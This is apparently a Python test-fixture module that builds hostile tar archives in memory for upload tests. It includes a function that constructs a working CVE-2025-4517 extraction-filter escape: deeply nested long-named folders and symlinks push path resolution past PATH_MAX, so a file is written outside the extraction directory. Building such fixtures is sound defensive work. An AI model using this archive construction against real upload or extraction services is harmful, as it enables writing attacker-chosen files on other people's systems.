"""Hostile archives for the upload tests, built in memory (unit and integration tests)."""

from __future__ import annotations

import io
import tarfile
from dataclasses import dataclass


@dataclass(frozen=True)
class E:
    name: str
    type: bytes = tarfile.REGTYPE
    data: bytes = b"x"
    link: str = ""
    mode: int = 0o644


def file(name: str, data: bytes = b"x", mode: int = 0o644) -> E:
    return E(name, tarfile.REGTYPE, data, mode=mode)


def folder(name: str, mode: int = 0o755) -> E:
    return E(name, tarfile.DIRTYPE, b"", mode=mode)


def symlink(name: str, target: str) -> E:
    return E(name, tarfile.SYMTYPE, b"", target, 0o777)


def hardlink(name: str, target: str) -> E:
    return E(name, tarfile.LNKTYPE, b"", target)


def archive(*entries: E, fmt: int = tarfile.PAX_FORMAT) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=fmt, encoding="utf-8",
                      errors="surrogateescape") as tar:
        for e in entries:
            info = tarfile.TarInfo(e.name)
            info.type, info.mode, info.linkname, info.mtime = e.type, e.mode, e.link, 1700000000
            if e.type == tarfile.REGTYPE:
                info.size = len(e.data)
                tar.addfile(info, io.BytesIO(e.data))
            else:
                tar.addfile(info)
    return buf.getvalue()


def cve_2025_4517(beside: str) -> bytes:
    """The CVE-2025-4517 shape: folders of 247-character names, each beside a one-letter
    link to it, so that a path through the letters resolves beyond PATH_MAX, where
    ``os.path.realpath`` stops following links; a link there to the top, a link ``escape``
    through it to the folder ``beside`` the target (inside, for realpath), and a file
    written through ``escape``. Python 3.11.7's ``filter="data"`` lets it write there."""
    long_part, steps, entries, path = "d" * 247, "abcdefghijklmnop", [], ""
    for step in steps:
        entries.append(folder(f"{path}{long_part}"))
        entries.append(symlink(f"{path}{step}", long_part))
        path = f"{path}{long_part}/"
    deep = "/".join(steps) + "/" + "l" * 254
    entries.append(symlink(deep, "../" * len(steps)))
    entries.append(symlink("escape", f"{deep}/../{beside}"))
    entries.append(file("escape/owned.txt", b"written outside"))
    return archive(*entries)
